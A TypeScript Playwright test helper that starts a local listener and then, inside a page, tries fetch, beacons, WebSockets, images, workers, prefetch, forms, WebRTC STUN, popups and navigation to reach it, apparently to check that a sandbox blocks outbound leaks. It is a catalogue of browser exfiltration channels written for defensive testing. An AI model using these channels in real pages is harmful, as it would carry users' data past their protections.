// A listener elsewhere, and the ways by which a page could reach it.

import { createSocket } from 'node:dgram';
import { createServer } from 'node:http';
import type { Page } from '@playwright/test';

export interface Witness {
  origin: string;
  /** What arrived, by the name of the way. */
  heard: Set<string>;
  close(): void;
}

/** Listens on a port of its own, for requests and for the packets that start a WebRTC connection. */
export async function listenElsewhere(): Promise<Witness> {
  const heard = new Set<string>();
  const server = createServer((request, response) => {
    heard.add(request.url?.slice(1) ?? '');
    response.writeHead(204, { 'Access-Control-Allow-Origin': '*' }).end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  if (!address || typeof address === 'string') throw new Error('No port.');
  const packets = createSocket('udp4').on('message', () => heard.add('webrtc'));
  await new Promise<void>((resolve) => packets.bind(address.port, '127.0.0.1', resolve));
  return {
    origin: `http://127.0.0.1:${address.port}`,
    heard,
    close: () => {
      packets.close();
      server.closeAllConnections();
      server.close();
    },
  };
}

/** Tries every way to reach `origin`. The page is of no use afterwards: the last one leaves it. */
export async function tryToLeak(page: Page, origin: string): Promise<void> {
  await page.evaluate(async (elsewhere) => {
    const to = (way: string) => `${elsewhere}/${way}`;
    const attempt = async (way: () => unknown) => {
      try {
        await way();
      } catch {
        // Refused: as it should be.
      }
    };
    await attempt(() => fetch(to('fetch'), { mode: 'no-cors' }));
    await attempt(() => navigator.sendBeacon(to('beacon')));
    await attempt(() => new WebSocket(to('websocket').replace('http', 'ws')));
    await attempt(() => (new Image().src = to('image')));
    await attempt(() => {
      const code = `fetch('${to('blob-worker')}', { mode: 'no-cors' })`;
      new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
    });
    await attempt(() => {
      const link = document.createElement('link');
      Object.assign(link, { rel: 'prefetch', href: to('prefetch') });
      document.head.append(link);
    });
    await attempt(() => {
      const form = document.createElement('form');
      Object.assign(form, { method: 'post', action: to('form'), target: 'elsewhere' });
      document.body.append(form);
      form.submit();
    });
    await attempt(async () => {
      const urls = to('').replace('http://', 'stun:').slice(0, -1);
      const connection = new RTCPeerConnection({ iceServers: [{ urls }] });
      connection.createDataChannel('leak');
      await connection.setLocalDescription(await connection.createOffer());
    });
    await attempt(() => window.open(to('window')));
    await new Promise((resolve) => setTimeout(resolve, 1500));
    setTimeout(() => (location.href = to('navigation')));
  }, origin);
  await page.waitForTimeout(1500);
}
